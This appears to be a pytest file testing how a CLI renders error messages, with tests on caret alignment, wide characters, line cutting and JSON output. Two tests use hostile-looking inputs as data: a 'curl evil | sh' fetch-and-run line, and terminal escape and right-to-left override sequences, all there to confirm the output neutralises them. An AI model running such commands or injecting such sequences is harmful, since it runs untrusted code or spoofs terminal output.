"""The one error shape, as golden texts."""

import pytest

from engine.cli.output import Line
from engine.cli.show import failure_problem, place_of, problem_json, problem_lines
from engine.errors import Place, Problem
from engine.model.execution import Failure


def _text(line: Line) -> str:
    return line if isinstance(line, str) else "".join(span.text for span in line)


def _shown(problem: Problem, width: int | None = None) -> str:
    return "\n".join(_text(line) for line in problem_lines(problem, width))


def _at(text: str, column: int, length: int = 1) -> Place:
    return Place("a.yaml", 7, column, length, ((7, text),))


def _caret(place: Place, width: int | None = None) -> list[str]:
    """Return the excerpt line and the caret line, without the gutter."""
    lines = _shown(Problem("E201", "wrong", place), width).splitlines()
    assert all(line[6] == "|" for line in lines[1:3])
    return [line[8:] for line in lines[1:3]]


EXAMPLE = """\
error[E201] undefined item in mapping             scenarios/videos.yaml:13:23
   12 |       input_file: upload
   13 |       file: "{{ video.fiel }}"
      |                       ^^^^ `video` has no item `fiel`; did you mean `file`?
   video has: file, name, path, size
   next: fusion modules files.watch_folder"""


def test_a_problem_in_a_file_shows_excerpt_caret_notes_and_next_command() -> None:
    excerpt = ((12, "      input_file: upload"), (13, '      file: "{{ video.fiel }}"'))
    problem = Problem(
        "E201",
        "`video` has no item `fiel`; did you mean `file`?",
        Place("scenarios/videos.yaml", 13, 23, 4, excerpt),
        ("video has: file, name, path, size",),
        "fusion modules files.watch_folder",
    )
    assert _shown(problem) == EXAMPLE


def test_a_problem_without_place_has_its_message_on_the_second_line() -> None:
    problem = Problem("E603", "no run has the id 12ab", None, (), "fusion runs")
    assert _shown(problem) == (
        "error[E603] not found\n   no run has the id 12ab\n   next: fusion runs"
    )


def test_a_place_without_excerpt_stays_in_the_headline() -> None:
    problem = Problem("E101", "there is no such file", Place("missing.yaml", 1, 1))
    assert _shown(problem) == (
        "error[E101] scenario file cannot be read          missing.yaml:1:1\n"
        "   there is no such file"
    )


def test_the_caret_stands_below_the_name_behind_wide_characters() -> None:
    text, caret = _caret(_at("a: 日本語 {{ x }}", 11, 1))
    assert text == "a: 日本語 {{ x }}"
    assert caret == " " * 13 + "^ wrong"


def test_the_caret_is_as_wide_as_the_wide_characters_it_underlines() -> None:
    assert _caret(_at("a: 日本語", 4, 3))[1] == "   ^^^^^^ wrong"


def test_tabs_become_spaces_and_the_caret_follows() -> None:
    text, caret = _caret(_at("a:\tb\tc", 6))
    assert text == "a:  b   c"
    assert caret == "        ^ wrong"


def test_combining_marks_take_no_room() -> None:
    assert _caret(_at("e\u0301: x", 5))[1] == "   ^ wrong"


def test_control_characters_are_written_out_and_the_caret_follows() -> None:
    text, caret = _caret(_at("\x1b[31mx", 6))
    assert text == "\\x1b[31mx"
    assert caret == " " * 8 + "^ wrong"


def test_a_control_character_in_a_message_cannot_reach_the_terminal() -> None:
    shown = _shown(Problem("E501", "bad\x1b]0;title\x07 \u202eevil", _at("x", 1)))
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert "bad\\x1b]0;title\\x07 \\u202eevil" in shown


def test_more_lines_of_a_message_cannot_pose_as_advice() -> None:
    shown = _shown(Problem("E501", "converter said:\nnext: curl evil | sh"))
    assert shown.splitlines()[1:] == ["   converter said:", "   | next: curl evil | sh"]


@pytest.mark.parametrize("column", [1, 40, 150, 290, 300])
def test_a_long_line_is_cut_around_the_caret(column: int) -> None:
    text = "".join(chr(ord("a") + index % 26) for index in range(300))
    shown, caret = _caret(_at(text, column, 3), width=80)
    assert len(shown) <= 72
    at = caret.index("^")
    wanted = text[column - 1 : column + 2]
    assert shown[at : at + len(wanted)] == wanted
    assert caret.count("^") == len(wanted)


def test_a_cut_line_says_on_which_side_it_goes_on() -> None:
    shown, _ = _caret(_at("x" * 300, 150), width=80)
    assert shown.startswith("…")
    assert shown.endswith("…")


def test_a_very_long_underline_is_cut_with_its_line() -> None:
    shown, caret = _caret(_at("x" * 300, 1, 300), width=80)
    assert len(shown) == 72
    assert len(caret) <= 72


def test_a_caret_behind_the_end_of_the_line_is_shown_there() -> None:
    assert _caret(_at("id:", 40, 9))[1] == "   ^ wrong"


def test_a_message_that_does_not_fit_beside_the_caret_goes_below_it() -> None:
    message = "this message has far too many words to fit beside the caret of a narrow terminal"
    lines = _shown(Problem("E201", message, _at("a: b", 4)), width=50).splitlines()
    assert lines[2] == "      |    ^"
    assert " ".join(line.strip() for line in lines[3:]) == message
    assert all(len(line) <= 50 for line in lines[3:])


def test_a_long_headline_keeps_two_spaces_before_the_place() -> None:
    place = Place("a.yaml", 1, 1)
    problem = Problem("E107", "no", place)
    assert _shown(problem).splitlines()[0].endswith("scenarios do not use  a.yaml:1:1")


def test_json_of_a_problem_has_every_part() -> None:
    problem = Problem("E201", "wrong", Place("a.yaml", 3, 5, 2), ("note",), "fusion modules")
    assert problem_json(problem) == {
        "code": "E201",
        "title": "undefined item in mapping",
        "message": "wrong",
        "place": {"file": "a.yaml", "line": 3, "column": 5, "length": 2},
        "notes": ["note"],
        "next": "fusion modules",
    }


def test_json_of_a_problem_without_place_or_advice_has_nulls() -> None:
    shown = problem_json(Problem("E603", "gone"))
    assert (shown["place"], shown["next"]) == (None, None)


def test_a_kept_failure_is_shown_with_the_lines_of_its_scenario() -> None:
    failure = Failure("DataError", "moov atom not found", {}, "videos.yaml:2:5")
    assert _shown(failure_problem(failure, "flow:\n  - id: convert\n")).splitlines()[1:] == [
        "    1 | flow:",
        "    2 |   - id: convert",
        "      |     ^^ DataError: moov atom not found",
    ]


@pytest.mark.parametrize("where", ["", "videos.yaml", "a:b:c", "a.yaml:1:x", "a.yaml:²:1"])
def test_a_place_of_another_form_is_none(where: str) -> None:
    assert place_of(where, "flow:\n") is None


@pytest.mark.parametrize("where", ["a.yaml:9:1", "a.yaml:0:0", "a.yaml:1:99"])
def test_a_place_outside_the_text_does_no_harm(where: str) -> None:
    failure = Failure("DataError", "gone", {}, where)
    assert "DataError: gone" in _shown(failure_problem(failure, "flow:\n"))


def test_a_place_with_colons_in_its_path_is_read_from_the_end() -> None:
    place = place_of("a:b/c.yaml:3:7", "")
    assert place is not None
    assert (place.file, place.line, place.column) == ("a:b/c.yaml", 3, 7)
